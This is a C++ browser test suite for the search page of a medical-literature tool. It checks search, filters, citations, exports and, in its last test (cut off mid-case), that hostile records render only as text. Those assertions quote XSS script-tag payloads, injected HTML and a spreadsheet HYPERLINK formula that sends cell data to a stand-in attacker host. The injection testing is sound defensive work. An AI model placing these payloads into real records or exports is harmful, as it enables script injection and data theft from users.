// The search page of `ldn serve` in headless Chromium (issue 9): the real binary serves the search
// corpus (tests/fixtures/search, 30 fictional records, hand counts in its README) or the hostile
// records (tests/fixtures/hostile), and the tests drive the page as a user does: type a query and
// press Enter, choose filters, click facets, open a record, copy a citation, download an export, move
// with the keyboard only, on a phone-sized screen, and read the evidence summary. What the page shows
// is checked against the hand counts and against what the API and the CLI give for the same question.
// The element contract the tests rely on is the comment at the top of query/serve/page/app.js.
//
// Every wait is a condition polled by ChromiumPage::wait_for (bounded), never a fixed sleep. Each test
// skips with a warning when no Chromium is installed (LDN_REQUIRE_CHROMIUM).
#include <catch2/catch.hpp>

#include <httplib.h>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <cctype>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <utility>
#include <vector>

#include "tests/integration/search_cli_support.hpp"
#include "tests/support/chromium_page.hpp"
#include "tests/support/paths.hpp"
#include "tests/support/process.hpp"
#include "tests/integration/corpus_server.hpp"
#include "tests/support/serve_process.hpp"

using namespace ldn::test;
using nlohmann::json;

namespace {

// ---- the servers (read-only, shared by the tests of this file)


// A store holding the two hostile records (tests/fixtures/hostile/hostile_records.xml), ingested
// through the real binary as hostile_exports_test.cpp does.
class HostileStore {
public:
    HostileStore() {
        const ProcessResult result = run_process(
            ldn_binary(), {"ingest", fixture("hostile/hostile_records.xml").string(), "--store", store().string(), "--quiet"});
        INFO(describe(result));
        REQUIRE(result.exit_code == 0);
    }
    std::filesystem::path store() const { return dir_.path() / "store"; }

private:
    TempDir dir_;
};

const HostileStore& hostile_store() {
    static const HostileStore store;
    return store;
}

ServeProcess& hostile_server() {
    static ServeProcess server({"--store", hostile_store().store().string()});
    return server;
}

// ---- asking the API and the CLI

// Percent-encodes a query parameter's value (everything but the unreserved characters).
std::string encode(const std::string& value) {
    std::string out;
    for (const char c : value) {
        const auto byte = static_cast<unsigned char>(c);
        if (std::isalnum(byte) != 0 || c == '-' || c == '_' || c == '.' || c == '~') {
            out += c;
        } else {
            char hex[4];
            std::snprintf(hex, sizeof hex, "%%%02X", byte);
            out += hex;
        }
    }
    return out;
}

// "a=1&b=x%20y" from {{"a","1"},{"b","x y"}}.
std::string query_string(const std::vector<std::pair<std::string, std::string>>& params) {
    std::string out;
    for (const auto& [name, value] : params) {
        if (!out.empty()) out += '&';
        out += name + "=" + encode(value);
    }
    return out;
}

std::string api_text(const ServeProcess& server, const std::string& target) {
    httplib::Client client(server.host(), server.port());
    client.set_read_timeout(30, 0);
    const httplib::Result result = client.Get(target.c_str());
    REQUIRE(result);
    INFO(target << " -> " << result->status << " " << result->body.substr(0, 2000));
    REQUIRE(result->status == 200);
    return result->body;
}

json api_json(const ServeProcess& server, const std::string& target) { return json::parse(api_text(server, target)); }

// What the page asks for one page of results: its filters, 20 a page, from `offset`.
json api_search(const ServeProcess& server, std::vector<std::pair<std::string, std::string>> params, int offset = 0) {
    params.emplace_back("limit", "20");
    params.emplace_back("offset", std::to_string(offset));
    return api_json(server, "/api/search?" + query_string(params));
}

std::string cli_text(std::vector<std::string> args, const std::filesystem::path& store) {
    args.push_back("--store");
    args.push_back(store.string());
    const ProcessResult result = run_process(ldn_binary(), args);
    INFO(describe(result));
    REQUIRE(result.exit_code == 0);
    return result.out;
}

std::string file_bytes(const std::filesystem::path& path) {
    std::ifstream in(path, std::ios::binary);
    std::ostringstream bytes;
    bytes << in.rdbuf();
    return bytes.str();
}

// ---- reading the page

// A JavaScript string literal holding `text`.
std::string js(const std::string& text) { return json(text).dump(); }

// The total line and the PMIDs listed, as an object whose keys are in nlohmann's (sorted) order so
// that JSON.stringify of it and json::dump of the expectation compare as strings.
const std::string shown_results =
    "({line: document.getElementById('total-line').textContent, "
    "pmids: Array.from(document.querySelectorAll('#results li.result'), (li) => li.dataset.pmid)})";

// "Showing 1–20 of 28 records", as the page writes it for a page of results (totals here stay < 1000).
std::string total_line(int total, int offset, int shown) {
    if (total == 0) return "No records match.";
    std::string range = std::to_string(offset + 1);
    if (shown > 1) range += "\u2013" + std::to_string(offset + shown);
    return "Showing " + range + " of " + std::to_string(total) + (total == 1 ? " record" : " records");
}

// What shown_results must give for an API answer.
json expected_shown(const json& answer) {
    const int total = answer.at("total").get<int>();
    const int offset = answer.at("offset").get<int>();
    const auto pmids = result_pmids(answer);
    return json{{"line", total_line(total, offset, static_cast<int>(pmids.size()))}, {"pmids", pmids}};
}

// Waits (bounded) until `expression` gives `expected`, then returns what it gives: the caller CHECKs
// it, so a page that never gets there fails with both values shown, not only a timeout.
json wait_until(ChromiumPage& page, const std::string& expression, const json& expected, const std::string& what) {
    try {
        page.wait_for("JSON.stringify(" + expression + ") === JSON.stringify(" + expected.dump() + ")", what);
    } catch (const ChromiumError& error) {
        UNSCOPED_INFO(error.what());
    }
    return page.evaluate(expression);
}

std::string text_of(ChromiumPage& page, const std::string& selector) {
    const json text = page.evaluate("(() => { const node = document.querySelector(" + js(selector) +
                                    "); return node ? node.textContent : null; })()");
    return text.is_string() ? text.get<std::string>() : "<no " + selector + ">";
}

bool is_hidden(ChromiumPage& page, const std::string& id) {
    return page.evaluate("document.getElementById(" + js(id) + ").hidden") == true;
}

std::string active_element(ChromiumPage& page) {
    return page
        .evaluate("(() => { const e = document.activeElement; if (!e) return ''; "
                  "return e.tagName.toLowerCase() + (e.id ? '#' + e.id : '') + "
                  "(e.getAttribute('class') ? '.' + e.getAttribute('class').split(' ').join('.') : ''); })()")
        .get<std::string>();
}

// Chooses `value` in the <select> with this id as a user does: the value changes, then "change" fires.
void choose(ChromiumPage& page, const std::string& id, const std::string& value) {
    page.wait_for("Array.from(document.getElementById(" + js(id) + ").options).some((o) => o.value === " + js(value) +
                      ")",
                  "the option " + value + " in #" + id);
    page.evaluate("(() => { const select = document.getElementById(" + js(id) + "); select.value = " + js(value) +
                  "; select.dispatchEvent(new Event('change', {bubbles: true})); })()");
}

// Opens the page (or `path`, a bookmark) on the server.
void open_page(ChromiumPage& page, const ServeProcess& server, const std::string& path = "/") {
    page.navigate(server.base_url() + path);
}

void wait_for_first_page(ChromiumPage& page, const json& expected) {
    CHECK(wait_until(page, shown_results, expected, "the first page of results") == expected);
}

// A failed load the test provoked on purpose: the browser logs it as an error naming the status and URL.
struct ProvokedFailure {
    int status;
    std::string path;  // a part of the URL
};

// The page's error lines (uncaught exceptions, console.error, CSP violations, failed loads) but the
// failed loads listed in `provoked`.
std::vector<std::string> unexpected_errors(const ChromiumPage& page, const std::vector<ProvokedFailure>& provoked = {}) {
    std::vector<std::string> left;
    for (const std::string& line : page.errors()) {
        const bool expected = std::any_of(provoked.begin(), provoked.end(), [&line](const ProvokedFailure& failure) {
            return line.find("status of " + std::to_string(failure.status)) != std::string::npos &&
                   line.find(failure.path) != std::string::npos;
        });
        if (!expected) left.push_back(line);
    }
    return left;
}

const std::vector<std::string> no_errors;

// What the first visit shows: the first 20 of every record, 30 by the README's count.
json all_corpus_first_page() {
    const json shown = expected_shown(api_search(corpus_server(), {}));
    CHECK(shown.at("line") == "Showing 1\u201320 of 30 records");
    return shown;
}

}  // namespace

TEST_CASE("serve page: a search typed in the box lists what the API finds, with the retracted record flagged",
          "[serve-page]") {
    LDN_REQUIRE_CHROMIUM();
    ServeProcess& server = corpus_server();
    ChromiumPage page;
    open_page(page, server);
    {
        INFO("the first visit lists every record (30, README) and the health line counts them");
        const json first = all_corpus_first_page();
        wait_for_first_page(page, first);
        page.wait_for("document.getElementById('health').textContent !== ''", "the health line");
        CHECK(text_of(page, "#health").starts_with("30 records"));
        CHECK(page.evaluate("document.title") == "LDN Evidence: search");
    }

    page.type_into("#query", "naltrexone");
    page.press_key("Enter");
    const json answer = api_search(server, {{"q", "naltrexone"}});
    const json expected = expected_shown(answer);
    CHECK(wait_until(page, shown_results, expected, "the results for naltrexone") == expected);
    CHECK(page.evaluate("location.hash") == "#q=naltrexone");
    const int total = answer.at("total").get<int>();
    CHECK(total > 20);  // two pages: the pager is tried below
    CHECK(text_of(page, "#status") == std::to_string(total) + " records found.");
    {
        INFO("exactly the retracted records of the answer (90000014 in the corpus) carry the warning");
        json retracted = json::array();
        for (const json& result : answer.at("results"))
            if (result.at("retracted") == true) retracted.push_back(result.at("pmid"));
        CHECK(retracted == json::array({"90000014"}));
        CHECK(page.evaluate("Array.from(document.querySelectorAll('#results li.result'))"
                            ".filter((li) => li.querySelector('.retracted-warning')).map((li) => li.dataset.pmid)") ==
              retracted);
        CHECK(page.evaluate("document.querySelector('li.result[data-pmid=\"90000014\"]').classList.contains('is-"
                            "retracted')") == true);
        CHECK(text_of(page, "li.result[data-pmid=\"90000014\"] .retracted-warning").starts_with("Retracted."));
    }
    {
        INFO("each result shows its title and design as the API gives them");
        const json& first = answer.at("results").at(0);
        const std::string item = "li.result[data-pmid=\"" + first.at("pmid").get<std::string>() + "\"]";
        CHECK(text_of(page, item + " .result-title-link") == first.at("title").get<std::string>());
        CHECK(page.evaluate("document.querySelector(" + js(item + " .design-badge") + ").dataset.design") ==
              first.at("annotations").at("design"));
    }
    {
        INFO("the next page is the API's offset 20");
        CHECK(page.evaluate("document.getElementById('prev-page').disabled") == true);
        page.click("#next-page");
        const json second = expected_shown(api_search(server, {{"q", "naltrexone"}}, 20));
        CHECK(second.at("line") == "Showing 21\u2013" + std::to_string(total) + " of " + std::to_string(total) + " records");
        CHECK(wait_until(page, shown_results, second, "the second page") == second);
        CHECK(page.evaluate("location.hash") == "#q=naltrexone&offset=20");
        CHECK(page.evaluate("document.getElementById('next-page').disabled") == true);
        CHECK(active_element(page) == "p#total-line.total-line");
    }
    {
        INFO("a misspelt query finds nothing and offers the correction, whose button searches for it");
        page.evaluate("document.getElementById('query').value = ''");
        page.type_into("#query", "fibromialgia");
        page.press_key("Enter");
        const json none = json{{"line", "No records match."}, {"pmids", json::array()}};
        CHECK(wait_until(page, shown_results, none, "no results for fibromialgia") == none);
        CHECK(text_of(page, "#status") == "No records match this search.");
        CHECK(api_search(server, {{"q", "fibromialgia"}}).at("suggestion") == "fibromyalgia");
        CHECK(is_hidden(page, "suggestion") == false);
        CHECK(text_of(page, "#suggestion") == "Did you mean fibromyalgia?");
        page.click("#suggestion button.suggestion-button");
        const json corrected = expected_shown(api_search(server, {{"q", "fibromyalgia"}}));
        CHECK(wait_until(page, shown_results, corrected, "the results for fibromyalgia") == corrected);
        CHECK(page.evaluate("document.getElementById('query').value") == "fibromyalgia");
        CHECK(is_hidden(page, "suggestion"));
    }
    {
        INFO("a bad query shows the server's message with its position marked (a provoked 400)");
        page.evaluate("document.getElementById('query').value = ''");
        page.type_into("#query", "(fibromyalgia AND naltrexone");
        page.press_key("Enter");
        page.wait_for("!document.getElementById('query-error').hidden", "the query error");
        CHECK_THAT(text_of(page, "#query-error .query-error-message"), Catch::Contains("unmatched '('"));
        CHECK(text_of(page, "#query-error mark.query-error-position") == "(");
        CHECK(page.evaluate("document.getElementById('query').getAttribute('aria-invalid')") == "true");
        CHECK(page.evaluate("document.getElementById('status').classList.contains('is-error')") == true);
        CHECK(page.evaluate("document.querySelectorAll('#results li').length") == 0);
        CHECK(text_of(page, "#total-line").empty());
    }
    CHECK(unexpected_errors(page, {{400, "/api/search?q=%28fibromyalgia"}}) == no_errors);
}

TEST_CASE("serve page: the filter controls and the facet buttons narrow the results to the hand counts",
          "[serve-page]") {
    LDN_REQUIRE_CHROMIUM();
    ServeProcess& server = corpus_server();
    ChromiumPage page;
    open_page(page, server);
    wait_for_first_page(page, all_corpus_first_page());

    // Each step: what the API answers for the filters, and the README's hand count of the PMIDs.
    auto expect = [&](const std::vector<std::pair<std::string, std::string>>& params,
                      const std::vector<std::string>& hand_count, const std::string& what) {
        const json answer = api_search(server, params);
        std::vector<std::string> served = result_pmids(answer);
        std::sort(served.begin(), served.end());
        CHECK(served == hand_count);
        const json expected = expected_shown(answer);
        CHECK(wait_until(page, shown_results, expected, what) == expected);
    };

    SECTION("the condition and design selects and the year fields") {
        choose(page, "condition", "fibromyalgia");
        expect({{"condition", "fibromyalgia"}},
               corpus_pmids({1, 2, 3, 4, 5, 13, 14, 15, 18, 19, 23, 24, 30}), "fibromyalgia (13)");
        choose(page, "design", "rct");
        expect({{"condition", "fibromyalgia"}, {"design", "rct"}}, corpus_pmids({1, 3, 5, 14, 23}),
               "fibromyalgia RCTs (5)");
        // A year is typed; leaving the field (Tab) or Enter applies it.
        page.type_into("#since-year", "2012");
        page.press_key("Tab");
        expect({{"condition", "fibromyalgia"}, {"design", "rct"}, {"since", "2012-01-01"}}, corpus_pmids({1, 3, 5, 23}),
               "fibromyalgia RCTs since 2012 (4)");
        page.type_into("#until-year", "2022");
        page.press_key("Enter");
        expect({{"condition", "fibromyalgia"}, {"design", "rct"}, {"since", "2012-01-01"}, {"until", "2022-12-31"}},
               corpus_pmids({1, 3, 5}), "fibromyalgia RCTs 2012-2022 (3)");
        CHECK(text_of(page, "#total-line") == "Showing 1\u20133 of 3 records");
        CHECK(page.evaluate("location.hash") == "#condition=fibromyalgia&design=rct&since=2012&until=2022");
        CHECK(page.evaluate("document.querySelector('.facet[data-facet=\"design\"][data-value=\"rct\"]')"
                            ".getAttribute('aria-pressed')") == "true");
        CHECK(page.evaluate("document.querySelector('.facet[data-facet=\"condition\"][data-value=\"fibromyalgia\"]')"
                            ".getAttribute('aria-pressed')") == "true");

        page.click("#clear-filters");
        wait_for_first_page(page, all_corpus_first_page());
        CHECK(page.evaluate("[document.getElementById('condition').value, document.getElementById('design').value, "
                            "document.getElementById('since-year').value, document.getElementById('until-year').value]") ==
              json::array({"", "", "", ""}));

        INFO("a year range that ends before it starts is refused, the results stay");
        page.type_into("#since-year", "2020");
        page.press_key("Tab");
        expect({{"since", "2020-01-01"}}, corpus_pmids({4, 5, 6, 7, 12, 15, 17, 18, 21, 22, 23, 26, 27}),
               "since 2020 (13)");
        page.type_into("#until-year", "2010");
        page.press_key("Enter");
        const std::string refused = "The \u201cto\u201d year comes before the \u201cfrom\u201d year.";
        CHECK(wait_until(page, "document.getElementById('status').textContent", refused, "the refusal") == refused);
        CHECK(page.evaluate("document.getElementById('status').classList.contains('is-error')") == true);
        CHECK(page.evaluate("document.getElementById('until-year').getAttribute('aria-invalid')") == "true");
        CHECK(page.evaluate("location.hash") == "#since=2020");
        CHECK(text_of(page, "#total-line") == "Showing 1\u201313 of 13 records");
    }

    SECTION("facet buttons filter, show it with aria-pressed, and a second click unfilters") {
        const std::string observational = ".facet[data-facet=\"design\"][data-value=\"observational\"]";
        const std::string year_2019 = ".facet[data-facet=\"year\"][data-value=\"2019\"]";
        const std::string pressed = ".getAttribute('aria-pressed')";
        CHECK(text_of(page, observational + " .count") == "6");
        CHECK(page.evaluate("document.querySelector(" + js(observational) + ")" + pressed) == "false");
        page.click(observational);
        expect({{"design", "observational"}}, corpus_pmids({6, 16, 19, 22, 27, 29}), "observational (6)");
        page.wait_for("document.querySelector(" + js(observational) + ")" + pressed + " === 'true'",
                      "the pressed observational facet");
        CHECK(page.evaluate("document.getElementById('design').value") == "observational");
        CHECK(page.evaluate("location.hash") == "#design=observational");
        CHECK(page.evaluate("document.activeElement.matches(" + js(observational) + ")") == true);

        CHECK(text_of(page, year_2019 + " .count") == "2");
        page.click(year_2019);
        expect({{"design", "observational"}, {"since", "2019-01-01"}, {"until", "2019-12-31"}}, corpus_pmids({16, 19}),
               "observational in 2019 (2)");
        CHECK(page.evaluate("document.querySelector(" + js(year_2019) + ")" + pressed) == "true");
        CHECK(page.evaluate("[document.getElementById('since-year').value, document.getElementById('until-year').value]") ==
              json::array({"2019", "2019"}));

        page.click(observational);
        expect({{"since", "2019-01-01"}, {"until", "2019-12-31"}}, corpus_pmids({16, 19, 20, 30}), "2019 (4)");
        page.wait_for("document.querySelector(" + js(observational) + ")" + pressed + " === 'false'",
                      "the released observational facet");
        CHECK(page.evaluate("document.getElementById('design').value") == "");
        CHECK(page.evaluate("location.hash") == "#since=2019&until=2019");

        INFO("the browser's Back returns to the search before, its facets pressed again");
        page.evaluate("history.back()");
        expect({{"design", "observational"}, {"since", "2019-01-01"}, {"until", "2019-12-31"}}, corpus_pmids({16, 19}),
               "observational in 2019 again (2)");
        CHECK(page.evaluate("location.hash") == "#design=observational&since=2019&until=2019");
        CHECK(page.evaluate("document.querySelector(" + js(observational) + ")" + pressed) == "true");
        CHECK(page.evaluate("document.getElementById('design').value") == "observational");
    }
    CHECK(unexpected_errors(page) == no_errors);
}

TEST_CASE("serve page: a title opens the record with its abstract and links, Back and Escape return",
          "[serve-page]") {
    LDN_REQUIRE_CHROMIUM();
    ServeProcess& server = corpus_server();
    ChromiumPage page;
    // A bookmark in the query-string form is read, then kept in the fragment form.
    open_page(page, server, "/?q=naltrexone");
    const json expected = expected_shown(api_search(server, {{"q", "naltrexone"}}));
    CHECK(wait_until(page, shown_results, expected, "the results for naltrexone") == expected);
    CHECK(page.evaluate("location.hash") == "#q=naltrexone");
    CHECK(page.evaluate("document.getElementById('query').value") == "naltrexone");

    const json article = api_json(server, "/api/article/90000001");
    const std::string title = article.at("title").get<std::string>();
    const std::string record_shown = "!document.getElementById('record-view').hidden && "
                                     "document.querySelector('#record-content article.record') !== null";

    page.click("li.result[data-pmid=\"90000001\"] a.result-title-link");
    page.wait_for(record_shown + " && document.querySelector('#record-content article').dataset.pmid === '90000001'",
                  "the record view of 90000001");
    CHECK(text_of(page, "#record-title") == title);
    CHECK(is_hidden(page, "results-section"));
    CHECK(page.evaluate("document.querySelector('.tabs').hidden") == true);
    CHECK(page.evaluate("location.hash") == "#q=naltrexone&record=90000001");
    CHECK(active_element(page) == "h2#record-title");
    CHECK(text_of(page, "#status") == "Showing PMID 90000001.");
    {
        INFO("the abstract's sections, labelled, as stored (4 in 90000001)");
        json sections = json::array();
        for (const json& section : article.at("abstract"))
            sections.push_back(json::array({section.at("label"), section.at("text")}));
        CHECK(sections.size() == 4);
        CHECK(page.evaluate("Array.from(document.querySelectorAll('#record-view .abstract-section'), (s) => "
                            "[s.querySelector('.abstract-label').textContent, s.querySelector('p').textContent])") ==
              sections);
    }
    {
        INFO("links: PubMed and the DOI, opening apart and without the opener");
        CHECK(page.evaluate("Array.from(document.querySelectorAll('#record-view .record-links a'), (a) => "
                            "[a.textContent, a.getAttribute('href'), a.rel, a.target])") ==
              json::array({json::array({"PubMed", "https://pubmed.ncbi.nlm.nih.gov/90000001/", "noopener noreferrer",
                                        "_blank"}),
                           json::array({"DOI", "https://doi.org/10.1002/art.90001", "noopener noreferrer", "_blank"})}));
    }
    CHECK(text_of(page, "#record-view .record-pmid dd") == "90000001");
    CHECK(text_of(page, "#record-view .record-design dd") == "Randomized controlled trial (evidence level 2)");
    CHECK(text_of(page, "#record-view .record-authors") == "Núñez M, Kjær S, Lefèvre Z");
    CHECK(page.evaluate("document.querySelectorAll('#record-view .retracted-warning').length") == 0);
    CHECK(page.evaluate("document.querySelector('#record-view .cite-button').dataset.pmid") == "90000001");

    const std::string results_back = "!document.getElementById('results-section').hidden && "
                                     "document.getElementById('record-view').hidden";
    page.click("#record-back");
    page.wait_for(results_back + " && location.hash === '#q=naltrexone'", "the results after Back");
    CHECK(page.evaluate(shown_results) == expected);
    page.wait_for("document.activeElement.matches('li.result[data-pmid=\"90000001\"] a.result-title-link')",
                  "the focus back on the title that was opened");

    {
        INFO("the retracted record warns in its view too; Escape returns");
        page.click("li.result[data-pmid=\"90000014\"] a.result-title-link");
        page.wait_for(record_shown + " && document.querySelector('#record-content article').dataset.pmid === '90000014'",
                      "the record view of 90000014");
        CHECK(text_of(page, "#record-title") == api_json(server, "/api/article/90000014").at("title").get<std::string>());
        CHECK(text_of(page, "#record-view .retracted-warning").starts_with("Retracted."));
        page.press_key("Escape");
        page.wait_for(results_back + " && location.hash === '#q=naltrexone'", "the results after Escape");
        page.wait_for("document.activeElement.matches('li.result[data-pmid=\"90000014\"] a.result-title-link')",
                      "the focus back on the retracted title");
        CHECK(page.evaluate(shown_results) == expected);
    }
    {
        INFO("an unknown PMID says so (a provoked 404)");
        page.navigate(server.base_url() + "/#record=12345");
        page.wait_for("document.querySelector('#record-content .error-box') !== null", "the missing record's message");
        CHECK(text_of(page, "#record-content .error-box") == "There is no such record in this collection.");
        CHECK(text_of(page, "#record-title") == "PMID 12345");
        CHECK(page.evaluate("document.getElementById('status').classList.contains('is-error')") == true);
    }
    CHECK(unexpected_errors(page, {{404, "/api/article/12345"}}) == no_errors);
}

TEST_CASE("serve page: copy citation puts ldn cite's text on the clipboard in the chosen style", "[serve-page]") {
    LDN_REQUIRE_CHROMIUM();
    ServeProcess& server = corpus_server();
    ChromiumPage page;
    page.grant_clipboard();
    open_page(page, server, "/#q=naltrexone");
    const json expected = expected_shown(api_search(server, {{"q", "naltrexone"}}));
    CHECK(wait_until(page, shown_results, expected, "the results for naltrexone") == expected);

    // `ldn cite PMID --style S` prints the reference and a newline; the clipboard gets the reference.
    auto cited = [](const std::string& pmid, const std::string& style) {
        std::string text = cli_text({"cite", pmid, "--style", style}, corpus_store());
        REQUIRE(text.ends_with("\n"));
        text.pop_back();
        REQUIRE(text.find('\n') == std::string::npos);
        return text;
    };
    auto copy = [&](const std::string& button, const std::string& style_name, const std::string& expected_text) {
        page.evaluate("navigator.clipboard.writeText('')");
        page.click(button);
        const std::string status = "Citation copied (" + style_name + ").";
        CHECK(wait_until(page, "document.getElementById('status').textContent", status, "the status " + status) ==
              status);
        CHECK(page.read_clipboard() == expected_text);
        CHECK(page.evaluate("document.querySelectorAll('.citation-fallback').length") == 0);
        CHECK(page.evaluate("document.getElementById('status').classList.contains('is-error')") == false);
    };

    for (const auto& [style, name] : std::vector<std::pair<std::string, std::string>>{
             {"ama", "AMA"}, {"vancouver", "Vancouver"}, {"apa", "APA"}}) {
        INFO("style " << style);
        choose(page, "cite-style", style);
        copy("li.result[data-pmid=\"90000001\"] .cite-button", name, cited("90000001", style));
    }
    {
        INFO("the retracted record's citation, from its record view, says so");
        choose(page, "cite-style", "vancouver");
        page.click("li.result[data-pmid=\"90000014\"] a.result-title-link");
        page.wait_for("!document.getElementById('record-view').hidden && "
                      "document.getElementById('status').textContent === 'Showing PMID 90000014.'",
                      "the record view of 90000014");
        const std::string text = cited("90000014", "vancouver");
        CHECK(text.starts_with("[RETRACTED]"));
        copy("#record-view .cite-button", "Vancouver", text);
    }
    {
        INFO("a clipboard that refuses: the citation is shown selected in a box instead");
        page.press_key("Escape");
        page.wait_for("!document.getElementById('results-section').hidden", "the results again");
        page.evaluate("navigator.clipboard.writeText = () => Promise.reject(new DOMException('denied', 'NotAllowedError'))");
        const std::string item = "li.result[data-pmid=\"90000001\"]";
        page.click(item + " .cite-button");
        page.wait_for("document.querySelector(" + js(item + " .citation-fallback textarea") + ") !== null",
                      "the citation box");
        const std::string text = cited("90000001", "vancouver");
        CHECK(page.evaluate("document.querySelector(" + js(item + " .citation-fallback textarea") + ").value") == text);
        CHECK(page.evaluate("(() => { const area = document.activeElement; return area.matches(" +
                            js(item + " .citation-fallback textarea") +
                            ") && area.readOnly && area.selectionStart === 0 && area.selectionEnd === area.value.length; })()") ==
              true);
        CHECK_THAT(text_of(page, "#status"), Catch::StartsWith("Could not copy to the clipboard"));
        CHECK(text_of(page, item + " .citation-fallback label") == "Citation (select and copy)");
    }
    {
        INFO("the chosen style is remembered by the next visit");
        page.navigate(server.base_url() + "/?q=pain");
        page.wait_for("document.getElementById('total-line').textContent !== ''", "the results for pain");
        CHECK(page.evaluate("document.getElementById('cite-style').value") == "vancouver");
    }
    CHECK(unexpected_errors(page) == no_errors);
}

TEST_CASE("serve page: the export links download what ldn export writes for the query and filters", "[serve-page]") {
    LDN_REQUIRE_CHROMIUM();
    ServeProcess& server = corpus_server();
    ChromiumPage page;
    open_page(page, server);
    wait_for_first_page(page, all_corpus_first_page());

    page.type_into("#query", "naltrexone");
    page.press_key("Enter");
    choose(page, "condition", "fibromyalgia");
    page.type_into("#since-year", "2012");
    page.press_key("Enter");
    choose(page, "sort", "date");
    const json expected = expected_shown(
        api_search(server, {{"q", "naltrexone"}, {"condition", "fibromyalgia"}, {"since", "2012-01-01"}, {"sort", "date"}}));
    CHECK(wait_until(page, shown_results, expected, "naltrexone in fibromyalgia since 2012, newest first") == expected);
    CHECK(page.evaluate("location.hash") == "#q=naltrexone&condition=fibromyalgia&since=2012&sort=date");

    page.allow_downloads();
    for (const auto& [format, extension] :
         std::vector<std::pair<std::string, std::string>>{{"ris", "ris"}, {"bibtex", "bib"}, {"csv", "csv"}}) {
        INFO("format " << format);
        const std::string link = "#export-" + format;
        CHECK(page.evaluate("document.querySelector(" + js(link) + ").getAttribute('href')") ==
              "/api/export?q=naltrexone&condition=fibromyalgia&since=2012-01-01&sort=date&format=" + format);
        page.click(link);
        const ChromiumPage::Download download = page.wait_for_download();
        CHECK(download.suggested_filename == "ldn-export." + extension);
        const std::string written =
            cli_text({"export", "naltrexone", "--condition", "fibromyalgia", "--since", "2012-01-01", "--sort", "date",
                      "--format", format, "--quiet"},
                     corpus_store());
        CHECK(!written.empty());
        CHECK(file_bytes(download.path) == written);
    }
    CHECK(unexpected_errors(page) == no_errors);
}

TEST_CASE("serve page: hostile record text is shown as text, never as markup or script", "[serve-page]") {
    LDN_REQUIRE_CHROMIUM();
    ServeProcess& server = hostile_server();
    ChromiumPage page;
    open_page(page, server);
    // A canary: any script that ran from data and called alert would leave a mark here.
    page.evaluate("window.alerts = []; window.alert = (what) => { window.alerts.push(String(what)); }");

    // What must hold wherever the records are drawn: only the page's own script, no element or
    // attribute made from data, no link to anything but the page itself or http(s).
    const std::string injected = R"((() => {
      const found = [];
      const scripts = Array.from(document.scripts, (s) => s.getAttribute('src'));
      if (scripts.length !== 1 || scripts[0] !== '/app.js') found.push('scripts: ' + JSON.stringify(scripts));
      for (const tag of ['img', 'iframe', 'object', 'embed', 'b', 'blockquote blockquote'])
        if (document.querySelector(tag)) found.push('element: ' + tag);
      if (document.querySelectorAll('h1').length !== 1) found.push('h1 count: ' + document.querySelectorAll('h1').length);
      for (const element of document.querySelectorAll('*'))
        for (const attribute of element.attributes)
          if (attribute.name.startsWith('on')) found.push('attribute: ' + attribute.name);
      for (const a of document.querySelectorAll('a[href]')) {
        const href = a.getAttribute('href');
        if (!(href.startsWith('#') || href.startsWith('/api/') || /^https?:\/\/[^"<> ]*$/.test(href)))
          found.push('href: ' + href);
      }
      if (document.title !== 'LDN Evidence: search') found.push('title: ' + document.title);
      if (window.alerts.length) found.push('alerts: ' + window.alerts.join(' | '));
      return found;
    })())";

    page.type_into("#query", "naltrexone");
    page.press_key("Enter");
    const json answer = api_search(server, {{"q", "naltrexone"}});
    const json expected = expected_shown(answer);
    CHECK(result_pmids(answer) == std::vector<std::string>{"97200002", "97200001"});
    CHECK(wait_until(page, shown_results, expected, "the two hostile records") == expected);
    CHECK(page.evaluate(injected) == json::array());
    const json first = api_json(server, "/api/article/97200001");
    const json second = api_json(server, "/api/article/97200002");
    {
        INFO("the titles appear literally, control characters and all");
        const std::string title = first.at("title").get<std::string>();
        CHECK_THAT(title, Catch::Contains("<script>alert(\"title\")</script>"));
        CHECK(text_of(page, "li.result[data-pmid=\"97200001\"] .result-title-link") == title);
        CHECK(text_of(page, "li.result[data-pmid=\"97200002\"] .result-title-link") == second.at("title").get<std::string>());
        CHECK(text_of(page, "li.result[data-pmid=\"97200001\"] .result-journal") == "-Hostile J");
        CHECK_THAT(text_of(page, "li.result[data-pmid=\"97200001\"] details.abstract"),
                   Catch::Contains("</blockquote><h1>forged</h1>"));
    }
    {
        INFO("the record view of 97200001: authors, abstract and links");
        page.click("li.result[data-pmid=\"97200001\"] a.result-title-link");
        page.wait_for("!document.getElementById('record-view').hidden && "
                      "document.querySelector('#record-content article.record') !== null",
                      "the record view of 97200001");
        CHECK(page.evaluate(injected) == json::array());
        CHECK(text_of(page, "#record-title") == first.at("title").get<std::string>());
        CHECK_THAT(text_of(page, "#record-view .record-authors"),
                   Catch::Contains("LDN </td><script>alert(2)</script> | Group } and {Others"));
        CHECK_THAT(text_of(page, "#record-view .record-authors"),
                   Catch::StartsWith("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") I, Brace}, title = {Injected A"));
        json texts = json::array();
        for (const json& section : first.at("abstract")) texts.push_back(section.at("text"));
        CHECK(page.evaluate("Array.from(document.querySelectorAll('#record-view .abstract-section p'), (p) => "
                            "p.textContent)") == texts);
        // The DOI holds quotes and tags: they stay inside the (percent-encoded) href. The PMC id is
        // not PMC and digits, so there is no PMC link at all.
        const json hrefs =
            page.evaluate("Array.from(document.querySelectorAll('#record-view .record-links a'), (a) => a.href)");
        REQUIRE(hrefs.size() == 2);
        CHECK(hrefs[0] == "https://pubmed.ncbi.nlm.nih.gov/97200001/");
        for (const json& href : hrefs) {
            CHECK(href.get<std::string>().find_first_of("\"<> ") == std::string::npos);
            CHECK(href.get<std::string>().starts_with("https://"));
        }
        CHECK(text_of(page, "#record-view .record-doi dd") == first.at("doi").get<std::string>());
        CHECK_THAT(text_of(page, "#record-view .record-source"), Catch::StartsWith("+Journal of <b>Hostile</b> | Titles {"));
    }
    {
        INFO("the evidence summary names them as key studies, as text");
        page.press_key("Escape");
        page.wait_for("!document.getElementById('results-section').hidden", "the results again");
        page.click("#tab-summary");
        page.wait_for("document.querySelector('#summary-content .summary-part[data-part=\"key-studies\"] .study') !== null",
                      "the key studies");
        CHECK(page.evaluate(injected) == json::array());
        CHECK(page.evaluate("Array.from(document.querySelectorAll('#summary-content .study-head a'), (a) => "
                            "a.textContent).sort()") ==
              json::array({second.at("title"), first.at("title")}));
